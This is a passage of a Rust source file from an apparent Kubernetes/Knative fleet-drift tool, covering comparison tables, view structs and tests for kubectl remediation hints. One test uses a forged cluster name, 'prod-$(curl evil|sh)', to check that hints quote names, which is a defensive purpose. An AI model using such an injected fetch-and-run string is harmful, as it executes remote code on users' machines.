        let highlighted = highlight(WHOLE_OBJECT, &values, &reported);
        rows.push(Row {
            path: WHOLE_OBJECT.to_string(),
            values: (0..flat.len())
                .map(|i| Cell {
                    value: values[i].cloned(),
                    reported: flat[i].is_some(),
                    highlighted: highlighted[i],
                })
                .collect(),
            differs: true,
        });
    }
    let maps: Vec<&BTreeMap<String, Value>> = flat.iter().flatten().flatten().collect();
    let differing = differing_paths(&maps);
    let mut alike: Vec<&String> = maps.iter().flat_map(|leaves| leaves.keys()).collect();
    alike.sort();
    alike.dedup();
    alike.retain(|path| differing.binary_search(path).is_err());
    let marked = differing.iter().map(|path| (*path, true));
    let unmarked = alike.into_iter().map(|path| (path, false));
    for (path, differs) in marked.chain(unmarked) {
        if rows.len() >= MAX_ROWS {
            break;
        }
        let values: Vec<Option<&Value>> = flat
            .iter()
            .map(|cell| match cell {
                Some(Some(leaves)) => leaves.get(path),
                _ => None,
            })
            .collect();
        // Only the members holding a copy are compared at a path; a missing copy is shown on
        // the whole-object row.
        let highlighted = if differs {
            highlight(path, &values, &holding)
        } else {
            vec![false; values.len()]
        };
        rows.push(Row {
            path: path.clone(),
            values: (0..flat.len())
                .map(|i| Cell {
                    value: values[i].cloned(),
                    reported: flat[i].is_some(),
                    highlighted: highlighted[i],
                })
                .collect(),
            differs,
        });
    }
    rows
}

/// A member of a fleet group as the fleet view shows it.
#[derive(Debug, Clone, PartialEq)]
pub struct MemberView {
    /// Cluster name.
    pub cluster: String,
    /// When an event of the cluster was last applied (none since the process started, for a
    /// member known from the stored state or from resync lists only).
    pub last_event: Option<drift_model::Millis>,
}

/// One compared object in the fleet view.
#[derive(Debug, Clone, PartialEq)]
pub struct ObjectView {
    /// The object.
    pub object: FleetObject,
    /// Its table, one cell per member.
    pub rows: Vec<Row>,
    /// The members that never reported the object.
    pub not_reported: Vec<String>,
    /// The open drift about it: (id, state).
    pub drift: Option<(String, drift_model::DriftState)>,
}

impl ObjectView {
    /// True when the members that report the object do not all hold the same.
    pub fn divergent(&self) -> bool {
        self.rows.iter().any(|row| row.differs)
    }
}

/// Most compared objects one group shows in the fleet view (divergent ones first).
pub const MAX_VIEW_OBJECTS: usize = 500;

/// One group in the fleet view.
#[derive(Debug, Clone, PartialEq)]
pub struct GroupView {
    /// The group as configured.
    pub group: FleetGroup,
    /// Its members, sorted by name.
    pub members: Vec<MemberView>,
    /// The objects it compares that a member holds: the divergent ones first, each part sorted
    /// by key, at most [`MAX_VIEW_OBJECTS`].
    pub objects: Vec<ObjectView>,
    /// How many more compared objects were left out past [`MAX_VIEW_OBJECTS`].
    pub truncated: usize,
    /// How many compared objects differ (counted over all of them, the left-out ones too).
    pub divergent: usize,
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn members(views: &[(&str, Option<Value>)]) -> Vec<(String, Option<Value>)> {
        views
            .iter()
            .map(|(cluster, view)| (cluster.to_string(), view.clone()))
            .collect()
    }

    #[test]
    fn comparison_cases() {
        let autoscaler = json!({"data": {"max-scale": "0", "scale-to-zero-grace-period": "30s"},
            "metadata": {"labels": {"app.kubernetes.io/version": "1.14.0"}}});
        let mut other_key = autoscaler.clone();
        other_key["data"]["max-scale"] = json!("10");
        let mut extra_key = autoscaler.clone();
        extra_key["data"]["enable-scale-to-zero"] = json!("false");
        let mut skew = autoscaler.clone();
        skew["metadata"]["labels"]["app.kubernetes.io/version"] = json!("1.15.1");
        // (case, members, ignore paths, expected (path, values)).
        type Case<'a> = (
            &'a str,
            Vec<(&'a str, Option<Value>)>,
            Vec<String>,
            Vec<(&'a str, Vec<Option<Value>>)>,
        );
        let cases: Vec<Case> = vec![
            (
                "alike",
                vec![
                    ("a", Some(autoscaler.clone())),
                    ("b", Some(autoscaler.clone())),
                ],
                vec![],
                vec![],
            ),
            (
                "one member",
                vec![("a", Some(autoscaler.clone()))],
                vec![],
                vec![],
            ),
            (
                "held by none",
                vec![("a", None), ("b", None)],
                vec![],
                vec![],
            ),
            (
                "a key differs",
                vec![
                    ("a", Some(autoscaler.clone())),
                    ("b", Some(other_key.clone())),
                ],
                vec![],
                vec![("/data/max-scale", vec![Some(json!("0")), Some(json!("10"))])],
            ),
            (
                "a key only one holds, both ways",
                vec![
                    ("a", Some(extra_key.clone())),
                    ("b", Some(autoscaler.clone())),
                ],
                vec![],
                vec![(
                    "/data/enable-scale-to-zero",
                    vec![Some(json!("false")), None],
                )],
            ),
            (
                "version skew",
                vec![("a", Some(autoscaler.clone())), ("b", Some(skew.clone()))],
                vec![],
                vec![(
                    "/metadata/labels/app.kubernetes.io~1version",
                    vec![Some(json!("1.14.0")), Some(json!("1.15.1"))],
                )],
            ),
            (
                "missing from one",
                vec![
                    ("a", Some(autoscaler.clone())),
                    ("b", None),
                    ("c", Some(other_key.clone())),
                ],
                vec![],
                vec![
                    (
                        "",
                        vec![Some(json!("present")), None, Some(json!("present"))],
                    ),
                    ("/data/max-scale", vec![Some(json!("0")), Some(json!("10"))]),
                ],
            ),
            (
                "ignored path prefix",
                vec![
                    ("a", Some(autoscaler.clone())),
                    ("b", Some(other_key.clone())),
                ],
                vec!["/data".to_string()],
                vec![],
            ),
            (
                "ignored is a prefix of segments, not of text",
                vec![
                    ("a", Some(autoscaler.clone())),
                    ("b", Some(other_key.clone())),
                ],
                vec!["/data/max".to_string()],
                vec![("/data/max-scale", vec![Some(json!("0")), Some(json!("10"))])],
            ),
            (
                "array by index",
                vec![
                    ("a", Some(json!({"spec": {"x": [1, 2]}}))),
                    ("b", Some(json!({"spec": {"x": [1]}}))),
                ],
                vec![],
                vec![("/spec/x/1", vec![Some(json!(2)), None])],
            ),
        ];
        for (name, views, ignore, expected) in cases {
            let got = compare(&members(&views), &ignore);
            let got: Vec<(String, Vec<Option<Value>>)> = got
                .into_iter()
                .map(|d| (d.path, d.values.into_iter().map(|(_, v)| v).collect()))
                .collect();
            let expected: Vec<(String, Vec<Option<Value>>)> = expected
                .into_iter()
                .map(|(p, v)| (p.to_string(), v))
                .collect();
            assert_eq!(got, expected, "{name}");
        }
    }

    #[test]
    fn describe_groups_clusters_by_value_and_the_hint_patches_the_minority() {
        let divergence = Divergence {
            path: "/data/max-scale".into(),
            values: vec![
                ("prod-eu".into(), Some(json!("0"))),
                ("prod-us".into(), Some(json!("10"))),
                ("staging".into(), Some(json!("0"))),
            ],
        };
        assert_eq!(
            divergence.describe(),
            "\"0\" in prod-eu, staging; \"10\" in prod-us"
        );
        let object = FleetObject {
            api_version: "v1".into(),
            kind: "ConfigMap".into(),
            namespace: "knative-serving".into(),
            name: "config-autoscaler".into(),
        };
        assert_eq!(object.key(), "ConfigMap/knative-serving/config-autoscaler");
        assert_eq!(
            hint(&object, std::slice::from_ref(&divergence)).unwrap(),
            "kubectl --context prod-us -n knative-serving patch configmap config-autoscaler --type merge -p '{\"data\":{\"max-scale\":\"0\"}}'"
        );
        assert_eq!(
            summary(&object, "fleet group prod", &[divergence]),
            "ConfigMap/knative-serving/config-autoscaler differs across fleet group prod: /data/max-scale is \"0\" in prod-eu, staging; \"10\" in prod-us"
        );
    }

    /// (path, cells as (value, reported, highlighted), differs) of each row.
    type RowText = (String, Vec<(Option<Value>, bool, bool)>, bool);

    fn table(views: &[(&str, Held)]) -> Vec<RowText> {
        let views: Vec<(String, Held)> = views
            .iter()
            .map(|(cluster, held)| (cluster.to_string(), held.clone()))
            .collect();
        rows(&views, &[])
            .into_iter()
            .map(|row| {
                let cells = row
                    .values
                    .into_iter()
                    .map(|cell| (cell.value, cell.reported, cell.highlighted))
                    .collect();
                (row.path, cells, row.differs)
            })
            .collect()
    }

    #[test]
    fn the_table_has_a_column_per_member_and_differing_rows_first() {
        let got = table(&[
            ("a", Held::Copy(json!({"data": {"k": "1", "same": "x"}}))),
            ("b", Held::Copy(json!({"data": {"k": "2", "same": "x"}}))),
            ("c", Held::Missing),
            ("d", Held::NotReported),
        ]);
        let present = Some(json!("present"));
        assert_eq!(
            got,
            vec![
                (
                    "".into(),
                    vec![
                        (present.clone(), true, false),
                        (present.clone(), true, false),
                        (None, true, true),
                        (None, false, false),
                    ],
                    true
                ),
                // A tie: no majority, every compared cell is highlighted; the missing member
                // is shown absent (on the row above), the unreported one not reported.
                (
                    "/data/k".into(),
                    vec![
                        (Some(json!("1")), true, true),
                        (Some(json!("2")), true, true),
                        (None, true, false),
                        (None, false, false),
                    ],
                    true
                ),
                (
                    "/data/same".into(),
                    vec![
                        (Some(json!("x")), true, false),
                        (Some(json!("x")), true, false),
                        (None, true, false),
                        (None, false, false),
                    ],
                    false
                ),
            ]
        );
    }

    #[test]
    fn only_the_cells_that_differ_from_the_majority_are_highlighted() {
        let got = table(&[
            ("a", Held::Copy(json!({"data": {"k": "1"}}))),
            ("b", Held::Copy(json!({"data": {"k": "2"}}))),
            ("c", Held::Copy(json!({"data": {"k": "1"}}))),
        ]);
        let highlighted: Vec<bool> = got[0].1.iter().map(|cell| cell.2).collect();
        assert_eq!(highlighted, [false, true, false]);
    }

    #[test]
    fn a_member_that_never_reported_the_object_is_neither_missing_nor_compared() {
        let views = vec![
            ("a".to_string(), Held::Copy(json!({"data": {"k": "1"}}))),
            ("b".to_string(), Held::NotReported),
        ];
        assert_eq!(
            evidenced(&views),
            vec![("a".to_string(), Some(json!({"data": {"k": "1"}})))]
        );
        assert!(compare(&evidenced(&views), &[]).is_empty());
        // The table shows no whole-object row: nobody is known to lack it.
        let got = table(&[
            ("a", Held::Copy(json!({"data": {"k": "1"}}))),
            ("b", Held::NotReported),
        ]);
        assert_eq!(
            got,
            vec![(
                "/data/k".to_string(),
                vec![(Some(json!("1")), true, false), (None, false, false)],
                false
            )]
        );
    }

    #[test]
    fn every_differing_path_is_marked_in_the_table_beyond_the_alerts_cap() {
        let many = |value: &str| {
            let data: Map<String, Value> = (0..MAX_DIVERGENCES + 10)
                .map(|i| (format!("k{i:03}"), json!(value)))
                .collect();
            json!({ "data": data })
        };
        let views = vec![
            ("a".to_string(), Held::Copy(many("1"))),
            ("b".to_string(), Held::Copy(many("2"))),
        ];
        assert_eq!(compare(&evidenced(&views), &[]).len(), MAX_DIVERGENCES);
        let table = rows(&views, &[]);
        assert_eq!(table.len(), MAX_DIVERGENCES + 10);
        assert!(table.iter().all(|row| row.differs));
    }

    #[test]
    fn quantities_compare_by_value() {
        let cpu = |value: &str| json!({"spec": {"template": {"spec": {"containers": [{"resources": {"limits": {"cpu": value}}}]}}}});
        let same = members(&[("a", Some(cpu("1000m"))), ("b", Some(cpu("1")))]);
        assert!(compare(&same, &[]).is_empty());
        let other = members(&[("a", Some(cpu("500m"))), ("b", Some(cpu("1")))]);
        assert_eq!(compare(&other, &[]).len(), 1);
    }

    fn state(cluster: &str, mut object: Value) -> ObjectState {
        object["metadata"]["resourceVersion"] = json!("1");
        let object = crate::decode::shape::parse_object(object).expect("object");
        ObjectState::from_object(cluster, &object, 0)
    }

    #[test]
    fn what_tools_and_the_api_server_set_per_cluster_is_not_compared() {
        let behavioural = |key: &str| key.starts_with("autoscaling.knative.dev/");
        let bookkeeping = |key: &str| key.starts_with("client.knative.dev/");
        let ksvc = |cluster: &str, extra: Value| {
            let mut object = json!({
                "apiVersion": "serving.knative.dev/v1", "kind": "Service",
                "metadata": {"name": "web", "namespace": "apps", "uid": format!("{cluster}-web")},
                "spec": {"template": {"metadata": {
                    "annotations": {"autoscaling.knative.dev/min-scale": "1"}},
                    "spec": {"containers": [{"image": "web:1"}]}}}
            });
            let metadata = &mut object["spec"]["template"]["metadata"];
            if let Value::Object(extra) = extra {
                for (key, value) in extra {
                    metadata["annotations"][key] = value;
                }
            }
            comparable(&state(cluster, object), &behavioural, &bookkeeping)
        };
        // kn stamps the template with its own annotations; they differ per cluster.
        let a = ksvc(
            "a",
            json!({"client.knative.dev/updateTimestamp": "2026-01-01T00:00:00Z"}),
        );
        let b = ksvc(
            "b",
            json!({"client.knative.dev/updateTimestamp": "2026-02-02T00:00:00Z"}),
        );
        assert!(compare(&members(&[("a", Some(a)), ("b", Some(b))]), &[]).is_empty());
        // A behavioural key under the template is still compared, and so is any other key
        // that is not bookkeeping (what every Revision gets: an Istio sidecar switch).
        let a = ksvc("a", json!({}));
        let b = ksvc("b", json!({"autoscaling.knative.dev/min-scale": "3"}));
        let found = compare(&members(&[("a", Some(a)), ("b", Some(b))]), &[]);
        assert_eq!(
            found[0].path,
            "/spec/template/metadata/annotations/autoscaling.knative.dev~1min-scale"
        );
        let a = ksvc("a", json!({"sidecar.istio.io/inject": "true"}));
        let b = ksvc("b", json!({}));
        let found = compare(&members(&[("a", Some(a)), ("b", Some(b))]), &[]);
        assert_eq!(
            found[0].path,
            "/spec/template/metadata/annotations/sidecar.istio.io~1inject"
        );
        // A core Service's IPs and node ports are the API server's, per cluster.
        let service = |cluster: &str, ip: &str, node_port: u16| {
            comparable(
                &state(
                    cluster,
                    json!({"apiVersion": "v1", "kind": "Service",
                        "metadata": {"name": "gw", "namespace": "apps", "uid": format!("{cluster}-gw")},
                        "spec": {"type": "LoadBalancer", "clusterIP": ip, "clusterIPs": [ip],
                            "ipFamilies": ["IPv4"], "ipFamilyPolicy": "SingleStack",
                            "healthCheckNodePort": node_port,
                            "ports": [{"port": 80, "nodePort": node_port}]}}),
                ),
                &behavioural,
                &bookkeeping,
            )
        };
        let views = members(&[
            ("a", Some(service("a", "10.0.0.1", 30001))),
            ("b", Some(service("b", "10.9.9.9", 31999))),
        ]);
        assert!(
            compare(&views, &[]).is_empty(),
            "{:?}",
            compare(&views, &[])
        );
    }

    fn object(kind: &str) -> FleetObject {
        FleetObject {
            api_version: "v1".into(),
            kind: kind.into(),
            namespace: "knative-serving".into(),
            name: "config-x".into(),
        }
    }

    fn divergence(path: &str, values: &[(&str, Option<Value>)]) -> Divergence {
        Divergence {
            path: path.into(),
            values: values
                .iter()
                .map(|(cluster, value)| (cluster.to_string(), value.clone()))
                .collect(),
        }
    }

    #[test]
    fn hints_never_carry_a_hash_nor_patch_a_version_label() {
        let hashed = divergence(
            "/data/tls.key",
            &[
                ("a", Some(json!("sha256:0123456789ab"))),
                ("b", Some(json!("sha256:0123456789ab"))),
                ("c", Some(json!("sha256:ba9876543210"))),
            ],
        );
        let hint = hint(&object("Secret"), &[hashed]).unwrap();
        assert!(!hint.contains("sha256:"), "{hint}");
        assert!(hint.starts_with("copy key tls.key from cluster a: kubectl --context c -n knative-serving patch secret config-x --type merge -p \"$(kubectl --context a -n knative-serving get secret config-x -o json | jq -c '{data: {\"tls.key\": .data[\"tls.key\"]}}')\""), "{hint}");
        // A ConfigMap's binaryData is hashed too.
        let binary = divergence(
            "/data/logo",
            &[
                ("a", Some(json!("sha256:0123456789ab"))),
                ("b", Some(json!("sha256:0123456789ab"))),
                ("c", None),
            ],
        );
        let hint = super::hint(&object("ConfigMap"), &[binary]).unwrap();
        assert!(
            !hint.contains("sha256:") && hint.contains(".binaryData["),
            "{hint}"
        );
        let skew = divergence(
            "/metadata/labels/app.kubernetes.io~1version",
            &[
                ("a", Some(json!("1.15.1"))),
                ("b", Some(json!("1.14.0"))),
                ("c", Some(json!("1.15.1"))),
            ],
        );
        assert_eq!(
            super::hint(&object("ConfigMap"), &[skew]).unwrap(),
            "upgrade Knative in b to 1.15.1"
        );
    }

    #[test]
    fn a_tie_names_both_directions() {
        let tie = divergence(
            "/data/max-scale",
            &[("a", Some(json!("1"))), ("b", Some(json!("2")))],
        );
        assert_eq!(
            hint(&object("ConfigMap"), &[tie]).unwrap(),
            "no majority for /data/max-scale (\"1\" in a; \"2\" in b): align either way\n\
             kubectl --context b -n knative-serving patch configmap config-x --type merge -p '{\"data\":{\"max-scale\":\"1\"}}'\n\
             or kubectl --context a -n knative-serving patch configmap config-x --type merge -p '{\"data\":{\"max-scale\":\"2\"}}'"
        );
        let skew = divergence(
            "/metadata/labels/app.kubernetes.io~1version",
            &[("a", Some(json!("1.15.1"))), ("b", Some(json!("1.14.0")))],
        );
        let hint = hint(&object("ConfigMap"), &[skew]).unwrap();
        assert!(
            hint.contains("upgrade Knative in b to 1.15.1")
                && hint.contains("or upgrade Knative in a to 1.14.0"),
            "{hint}"
        );
    }

    #[test]
    fn a_missing_object_is_copied_without_server_fields_or_deleted_from_a_lone_holder() {
        let present = Some(json!(PRESENT));
        let missing_from_one = divergence(
            WHOLE_OBJECT,
            &[("a", present.clone()), ("b", None), ("c", present.clone())],
        );
        assert_eq!(
            hint(&object("ConfigMap"), &[missing_from_one]).unwrap(),
            "add it to b from Git, or copy it from a: kubectl --context a -n knative-serving get configmap config-x -o json | jq 'del(.metadata.uid,.metadata.resourceVersion,.metadata.creationTimestamp,.metadata.generation,.metadata.managedFields,.metadata.ownerReferences,.status)' | kubectl --context b apply -f -"
        );
        let only_one = divergence(
            WHOLE_OBJECT,
            &[("a", present.clone()), ("b", None), ("c", None)],
        );
        let hint = hint(&object("ConfigMap"), &[only_one]).unwrap();
        let lines: Vec<&str> = hint.lines().collect();
        assert_eq!(
            lines[0],
            "ConfigMap/knative-serving/config-x is in a but not in b, c: add it to b, c or delete it from a"
        );
        assert!(lines[1].starts_with("add it to b from Git, or copy it from a: "));
        assert!(lines[2].starts_with("add it to c from Git, or copy it from a: "));
        assert_eq!(
            lines[3],
            "or delete it from a: kubectl --context a -n knative-serving delete configmap config-x"
        );
    }

    #[test]
    fn hints_quote_names_and_fit_the_object() {
        // A forged cluster name matching a group's glob cannot run anything from a pasted hint.
        let forged = "prod-$(curl evil|sh)";
        let key = divergence(
            "/data/max-scale",
            &[
                ("prod-eu", Some(json!("1"))),
                ("prod-us", Some(json!("1"))),
                (forged, Some(json!("2"))),
            ],
        );
        let text = hint(&object("ConfigMap"), &[key]).unwrap();
        assert!(
            text.starts_with("kubectl --context 'prod-$(curl evil|sh)' -n knative-serving patch"),
            "{text}"
        );
        // A core Service copied to another cluster leaves its allocated addresses behind.
        let mut service = object("Service");
        service.namespace = "apps".into();
        let present = Some(json!(PRESENT));
        let missing = divergence(
            WHOLE_OBJECT,
            &[("a", present.clone()), ("b", None), ("c", present)],
        );
        let text = hint(&service, &[missing]).unwrap();
        assert!(
            text.contains(".status,.spec.clusterIP,.spec.clusterIPs,.spec.healthCheckNodePort,.spec.ports[]?.nodePort)"),
            "{text}"
        );
        // An app's own version label is not a Knative release.
        let skew = divergence(
            "/metadata/labels/app.kubernetes.io~1version",
            &[
                ("a", Some(json!("2.0"))),
                ("b", Some(json!("2.0"))),
                ("c", Some(json!("1.9"))),
            ],
        );
        let mut app = object("ConfigMap");
        app.namespace = "apps".into();
        assert_eq!(
            hint(&app, &[skew]).unwrap(),
            "deploy version 2.0 of it in c"
        );
    }

    #[test]
    fn the_values_fact_cuts_long_values() {
        let long = "x".repeat(5000);
        let fact = values_fact(&[divergence(
            "/data/k",
            &[("a", Some(json!(long))), ("b", None)],
        )]);
        let parsed: Value = serde_json::from_str(&fact).unwrap();
        let cut = parsed[0]["values"]["a"].as_str().unwrap();
        assert_eq!(cut.chars().count(), MAX_FACT_VALUE + 1);
        assert!(cut.ends_with('…'));
        assert_eq!(parsed[0]["values"]["b"], Value::Null);
    }

    #[test]
    fn members_and_selection() {
        let group = FleetGroup {
            name: "prod".into(),
            clusters: vec!["prod-*".into(), "staging".into()],
            compare: vec![Compared {
                api_version: "v1".into(),
                kind: "ConfigMap".into(),
                namespace: "knative-serving".into(),
                name: "config-*".into(),
            }],
            ignore_paths: vec![],
            severity: Severity::Warning,
            grace: Duration::from_secs(300),
        };
        assert!(group.has_member("prod-eu") && group.has_member("staging"));
        assert!(!group.has_member("dev") && !group.has_member("fleet:prod-x"));
        assert!(group.compares("v1", "ConfigMap", "knative-serving", "config-network"));
        assert!(!group.compares("v1", "ConfigMap", "default", "config-network"));
        assert!(!group.compares("v1", "Secret", "knative-serving", "config-network"));
    }
}
